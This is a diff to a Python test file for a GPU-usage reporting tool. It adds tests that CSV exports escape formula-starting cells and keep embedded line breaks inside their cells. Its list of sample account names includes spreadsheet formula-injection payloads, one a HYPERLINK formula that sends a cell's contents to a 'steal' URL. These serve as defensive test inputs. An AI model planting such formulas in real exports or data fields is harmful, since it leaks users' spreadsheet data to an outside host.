@@ -10,7 +10,9 @@ prints.
 
 from __future__ import annotations
 
+import csv
 import gzip
+import io
 import json
 import os
 import subprocess
@@ -127,17 +129,19 @@ def test_a_refusal_is_shown_escaped_on_one_line(capsys):
 
 
 # ---- NaN and infinite samples ---------------------------------------------------------------
-def stub_prometheus(points: dict[str, list[tuple[int, str]]]) -> web.Application:
-    """A Prometheus API that knows one workload series per counter family, with ``points``
-    as its last value in each step (what `last_over_time(c[step])` answers); no resets,
-    no raw samples."""
+def stub_prometheus(points: dict[str, list[tuple[int, str]]],
+                    workloads: list[dict[str, str]] | None = None) -> web.Application:
+    """A Prometheus API that knows, per counter family, one series per workload (default:
+    one, `LABELS`), with ``points`` as its last value in each step (what
+    `last_over_time(c[step])` answers); no resets, no raw samples."""
     async def query_range(request: web.Request) -> web.Response:
         expr = (await request.post())["query"]
         if expr.startswith("resets("):
             return web.json_response(matrix())
         family = expr[len("last_over_time("):].split("{")[0].split("[")[0]
         values = [[ts, v] for ts, v in points.get(family, [])]
-        return web.json_response(matrix({"metric": {"__name__": family, **LABELS}, "values": values}))
+        return web.json_response(matrix(*({"metric": {"__name__": family, **labels}, "values": values}
+                                          for labels in workloads or [LABELS])))
 
     async def query(request: web.Request) -> web.Response:
         await request.read()
@@ -190,6 +194,48 @@ def test_a_figure_that_is_not_finite_is_null_in_json_and_empty_in_csv():
     assert doc["groups"][0]["gpu_hours_used"] is None and doc["groups"][0]["gpu_hours_allocated"] is None
     assert doc["groups"][0]["waste_gpu_hours"] is None and doc["totals"]["x"] == [None, 1.0]
     assert to_csv({"groups": [group]}).splitlines()[1] == '"ml","","","",0.0,1.5,"","","","","","",1,""'
+
+
+# ---- CSV for spreadsheets ------------------------------------------------------------------
+HOSTILE_ACCOUNTS = ['=HYPERLINK("http://host/steal?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tlab",
+                    "\rlab", "lab\rsplit", "lab\nsplit", "lab;=1+1", "lab,comma", 'say "hi"', "plain-lab"]
+DANGEROUS = tuple("=+-@\t\r")
+
+
+def test_csv_cells_never_start_a_formula_and_keep_their_row(capsys):
+    """Slurm accounts (chosen by whoever submits the job) as groups: every text cell is
+    quoted, a formula start gets a leading ', a CR or LF inside a name stays in its cell."""
+    workloads = [{"slurm_job_id": str(100 + i), "slurm_user": "u", "slurm_account": account,
+                  "model": "NVIDIA H100 80GB HBM3", "node": "n1"} for i, account in enumerate(HOSTILE_ACCOUNTS)]
+    t = [T0, T0 + H, T0 + 2 * H]
+    points = {"container_gpu_allocation_seconds_total": [(t[0], "0"), (t[1], "3600"), (t[2], "7200")],
+              "container_gpu_usage_seconds_total": [(t[0], "0"), (t[1], "900"), (t[2], "1800")]}
+    with LoopbackServer(stub_prometheus(points, workloads)) as server:
+        assert report(server.base, "--by", "slurm_account", "--format", "csv") == 0
+    text = capsys.readouterr().out
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0][0] == "group" and len(rows) == 1 + len(HOSTILE_ACCOUNTS)  # no row split by a CR or LF
+    got = {row[0]: row for row in rows[1:]}
+    want = {("'" + a if a.startswith(DANGEROUS) else a) for a in HOSTILE_ACCOUNTS}
+    assert set(got) == want
+    for row in got.values():
+        assert not row[0].startswith(DANGEROUS) and not row[-1].startswith(DANGEROUS)
+        assert float(row[2]) == pytest.approx(2.0) and float(row[1]) == pytest.approx(0.5)  # figures stay numbers
+    assert got["'=HYPERLINK(\"http://host/steal?\"&A1,\"Open\")"][-1] == "slurm job 100 (u)=1.5h"
+    # the bytes as a spreadsheet reads them: the names quoted, the figures bare
+    assert '\n"\'=HYPERLINK(""http://host/steal?""&A1,""Open"")",0.5,2.0,1.5,' in text
+    assert '\n"lab\rsplit",0.5,2.0,' in text and '\n"plain-lab",0.5,2.0,' in text
+
+
+def test_negative_figures_stay_numbers_in_csv():
+    from exporter.report.output import to_csv
+
+    group = {"group": "-lab", "gpu_hours_used": -1.5, "gpu_hours_allocated": 2.0, "waste_gpu_hours": 3.5,
+             "zombie_hours": 0.0, "energy_kwh": -0.25, "allocated_cost": -4.0, "effective_cost": None,
+             "waste_cost": None, "energy_cost": None, "total_cost": -4.0, "waste_ratio": 1.75, "workloads": 2,
+             "top_waste": [{"workload": "-lab/p/c", "waste_gpu_hours": 3.5}]}
+    line = to_csv({"groups": [group]}).splitlines()[1]
+    assert line == '"\'-lab",-1.5,2.0,3.5,0.0,-0.25,-4.0,"","","",-4.0,1.75,2,"\'-lab/p/c=3.5h"'
 
 
 # ---- the size cap ---------------------------------------------------------------------------
